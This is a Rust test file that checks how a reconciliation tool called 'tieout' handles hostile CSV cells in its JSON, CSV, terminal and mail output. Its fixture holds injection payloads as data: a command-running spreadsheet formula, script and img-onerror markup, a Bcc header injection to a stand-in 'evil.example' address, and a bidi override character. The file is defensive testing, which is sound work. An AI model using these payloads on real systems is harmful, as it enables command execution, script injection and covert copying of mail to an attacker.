//! Cells that mean harm arrive everywhere as the text they are.

use serde_json::Value;

use super::Shop;

/// Order numbers and customers as somebody who can write into the sales system might choose them.
const ROWS: &str = "\"=cmd|'/C calc'!A1\",+1+1,10.00,CNY\n\
    \"<script>alert(1)</script>\",\"<img src=x onerror=alert(2)>\",20.00,CNY\n\
    \"A\r\nBcc: thief@evil.example\",@SUM(1),30.00,CNY\n\
    \"ab\u{202e}cd\",\"-2+3\",40.00,CNY\n\
    🙂,ＦＵＬＬ,50.00,CNY\n\
    C1,plain,60.00,\"=1+1\"\n";

fn subjects(report: &Value) -> Vec<String> {
    let exceptions = report["rules"][0]["exceptions"].as_array().unwrap();
    let mut subjects: Vec<String> =
        exceptions.iter().map(|exception| exception["subject"][0].as_str().unwrap().to_owned()).collect();
    subjects.sort();
    subjects
}

#[test]
fn json_keeps_the_exact_text() {
    let shop = Shop::new(ROWS, "");
    let said = shop.shell("tieout run daily --format json");
    assert_eq!((said.code, said.err.as_str()), (1, ""));
    let mut wanted =
        ["=cmd|'/C calc'!A1", "<script>alert(1)</script>", "A\r\nBcc: thief@evil.example", "ab\u{202e}cd", "🙂", "C1"];
    wanted.sort();
    assert_eq!(subjects(&serde_json::from_str(&said.out).unwrap()), wanted);
}

#[test]
fn no_list_for_a_spreadsheet_carries_a_formula_and_no_terminal_is_steered() {
    let shop = Shop::new(ROWS, "");
    let run = shop.shell("tieout run daily --format csv");
    let list = shop.shell("tieout exceptions --format csv");
    for text in [&run.out, &list.out] {
        let mut rows = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = rows.records().map(|row| row.unwrap()).collect();
        assert_eq!(rows.len(), 6, "{text}");
        for cell in rows.iter().flatten() {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']) && !cell.contains(['\r', '\n']), "{cell:?}");
            assert!(!cell.starts_with('-') || cell.parse::<f64>().is_ok(), "{cell:?}");
        }
    }
    for line in ["tieout run daily", "tieout exceptions", "tieout exceptions --status open"] {
        let said = shop.shell(line);
        let steering =
            |letter: char| (letter.is_control() && letter != '\n') || ('\u{202a}'..='\u{202e}').contains(&letter);
        assert!(!said.out.contains(steering), "{line}: {:?}", said.out);
    }
}

#[test]
fn mails_keep_their_headers_and_their_structure() {
    let shop = Shop::new(ROWS, "");
    shop.shell("tieout run daily");
    let mails = shop.mails();
    assert_eq!(mails.len(), 1);
    let (headers, body) = mails[0].split_once("\r\n\r\n").unwrap();
    assert!(!headers.to_lowercase().contains("bcc:"), "{headers}");
    assert!(!body.contains("<script>") && !body.contains("<img src=x"), "markup of a cell stands in the mail");
    assert!(mails[0].lines().all(|line| line.len() <= 998));
}

#[test]
fn a_cell_of_a_hundred_thousand_letters_is_judged_and_cut_only_where_it_is_shown() {
    let long = "长".repeat(100_000);
    let shop = Shop::new(&format!("{long},x,1.00,CNY"), "");
    let said = shop.shell("tieout run daily --format json");
    assert_eq!(said.code, 1, "{}", said.err);
    assert_eq!(subjects(&serde_json::from_str(&said.out).unwrap()), [long]);
    assert!(shop.mails()[0].len() < 3_000_000);
}

#[test]
fn a_file_with_a_nul_byte_is_unknown_as_a_whole() {
    let shop = Shop::new("A\0,x,1.00,CNY", "");
    let said = shop.shell("tieout run daily --format json");
    assert_eq!(said.code, 2);
    let report: Value = serde_json::from_str(&said.out).unwrap();
    let sentence = report["rules"][0]["reason"]["sentence"].as_str().unwrap();
    assert!(sentence.contains("NUL") && sentence.contains("line 2"), "{sentence}");
}
